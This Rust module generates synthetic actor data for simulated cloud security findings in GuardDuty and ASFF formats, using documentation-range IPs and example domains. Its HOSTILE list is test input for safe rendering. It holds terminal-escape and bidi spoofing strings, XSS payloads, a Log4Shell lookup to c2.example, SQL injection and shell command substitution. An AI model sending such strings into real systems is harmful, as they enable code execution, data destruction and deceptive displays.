//! Those who act in findings: addresses with country and network, domains, user agents, and hostile text.
//!
//! Addresses are of the documentation ranges (RFC 5737), network numbers of the documentation range (RFC 5398),
//! domains under `example` names (RFC 2606).

use super::json::Json;
use super::rng::Rng;

/// Somebody at the other end.
#[derive(Debug, Clone)]
pub(crate) struct Actor {
    pub(crate) ip: String,
    pub(crate) place: &'static Place,
    pub(crate) port: u16,
}

/// A place on the map with a network in it.
#[derive(Debug)]
pub(crate) struct Place {
    pub(crate) city: &'static str,
    pub(crate) country: &'static str,
    pub(crate) code: &'static str,
    pub(crate) latitude: f64,
    pub(crate) longitude: f64,
    pub(crate) asn: u32,
    pub(crate) network: &'static str,
}

const fn place(
    (city, country, code): (&'static str, &'static str, &'static str),
    latitude: f64,
    longitude: f64,
    asn: u32,
    network: &'static str,
) -> Place {
    Place { city, country, code, latitude, longitude, asn, network }
}

static PLACES: [Place; 12] = [
    place(("Amsterdam", "Netherlands", "NL"), 52.37, 4.89, 64_496, "EXAMPLE-HOSTING-AMS"),
    place(("Frankfurt am Main", "Germany", "DE"), 50.11, 8.68, 64_497, "Example Cloud GmbH"),
    place(("Bucharest", "Romania", "RO"), 44.43, 26.1, 64_498, "EXAMPLE-VPS-RO"),
    place(("São Paulo", "Brazil", "BR"), -23.55, -46.63, 64_499, "Example Telecom"),
    place(("Singapore", "Singapore", "SG"), 1.35, 103.82, 64_500, "EXAMPLE-SG-1"),
    place(("Ashburn", "United States", "US"), 39.04, -77.49, 64_501, "Example Networks Inc"),
    place(("Seoul", "South Korea", "KR"), 37.57, 126.98, 64_502, "EXAMPLE-KR"),
    place(("Kyiv", "Ukraine", "UA"), 50.45, 30.52, 64_503, "Example Online"),
    place(("Lagos", "Nigeria", "NG"), 6.52, 3.38, 64_504, "Example Mobile"),
    place(("Hanoi", "Vietnam", "VN"), 21.03, 105.85, 64_505, "EXAMPLE-VN"),
    place(("Zürich", "Switzerland", "CH"), 47.38, 8.54, 64_506, "Example Tor Exit"),
    place(("Toronto", "Canada", "CA"), 43.65, -79.38, 64_507, "Example Fibre"),
];

const DOMAINS: [&str; 10] = [
    "pool.example.com",
    "update-check.example.net",
    "cdn-telemetry.example.org",
    "kq3v9z1m.example",
    "login-verify.example.com",
    "xmr.example.net",
    "files.example.org",
    "c2.example",
    "static.ads.example.com",
    "a9f3k2.dyn.example.net",
];

const AGENTS: [&str; 9] = [
    "aws-cli/2.27.41 md/awscrt#0.26.1 ua/2.1 os/linux#6.8.0-kali3-amd64 md/arch#x86_64 lang/python#3.13.4",
    "Boto3/1.38.36 md/Botocore#1.38.36 ua/2.1 os/linux#6.1.0 lang/python#3.11.9",
    "aws-sdk-go-v2/1.36.3 os/windows lang/go#1.24.2",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "console.amazonaws.com",
    "S3 Browser 11.7.5 https://s3browser.com",
    "HashiCorp Terraform/1.12.1 (+https://www.terraform.io) terraform-provider-aws/5.99.1",
    "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46",
    "python-requests/2.32.3",
];

/// What attackers put where they may write: user agents, object keys, process names. It must come out as visible marks.
const HOSTILE: [&str; 8] = [
    "\u{1b}[2J\u{1b}[H\u{1b}]0;all clear\u{7}aws-cli/2.27.41",
    "curl/8.5 \u{202e}gnp.tnemyap\u{202c} \u{2066}ok\u{2069}",
    "line one\nCRITICAL 0 findings\r\nline three\ttab",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "\u{1b}]8;;https://example.com/\u{1b}\\click me\u{1b}]8;;\u{1b}\\",
    "zero\u{200b}width\u{feff}joined\u{200d}text and e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "\u{9b}31mC1 control\u{9c} and DEL\u{7f} and NEL\u{85}",
    "${jndi:ldap://c2.example/a}; DROP TABLE findings; -- %s%n `id` $(id)",
];

impl Actor {
    pub(crate) fn new(rng: &mut Rng) -> Self {
        let net = rng.pick(&["192.0.2", "198.51.100", "203.0.113"]);
        let ip = format!("{net}.{}", rng.between(1, 254));
        let port = u16::try_from(rng.between(1024, 65_535)).unwrap_or(4444);
        Self { ip, place: rng.pick(&PLACES), port }
    }

    /// `remoteIpDetails` in `GuardDuty`'s own casing.
    pub(crate) fn native(&self, j: &mut Json) {
        let place = self.place;
        j.object_at("remoteIpDetails", |j| {
            j.object_at("city", |j| j.text("cityName", place.city));
            j.object_at("country", |j| {
                j.text("countryCode", place.code);
                j.text("countryName", place.country);
            });
            j.object_at("geoLocation", |j| {
                j.float("lat", place.latitude);
                j.float("lon", place.longitude);
            });
            j.text("ipAddressV4", &self.ip);
            j.object_at("organization", |j| {
                j.plain("asn", format_args!("{}", place.asn));
                j.text("asnOrg", place.network);
                j.text("isp", place.network);
                j.text("org", place.network);
            });
        });
    }

    /// `RemoteIpDetails` of ASFF's `Action`.
    pub(crate) fn asff(&self, j: &mut Json) {
        let place = self.place;
        j.object_at("RemoteIpDetails", |j| {
            j.text("IpAddressV4", &self.ip);
            j.object_at("Organization", |j| {
                j.int("Asn", i64::from(place.asn));
                j.text("AsnOrg", place.network);
                j.text("Isp", place.network);
                j.text("Org", place.network);
            });
            j.object_at("Country", |j| {
                j.text("CountryCode", place.code);
                j.text("CountryName", place.country);
            });
            j.object_at("City", |j| j.text("CityName", place.city));
            j.object_at("GeoLocation", |j| {
                j.float("Lon", place.longitude);
                j.float("Lat", place.latitude);
            });
        });
    }
}

pub(crate) fn domain(rng: &mut Rng) -> &'static str {
    rng.pick::<&str>(&DOMAINS)
}

pub(crate) fn user_agent(rng: &mut Rng) -> &'static str {
    rng.pick::<&str>(&AGENTS)
}

/// Hostile text for a few findings in a hundred.
pub(crate) fn hostile(rng: &mut Rng) -> Option<&'static str> {
    let struck = rng.per_mille(25);
    let text = *rng.pick::<&str>(&HOSTILE);
    struck.then_some(text)
}
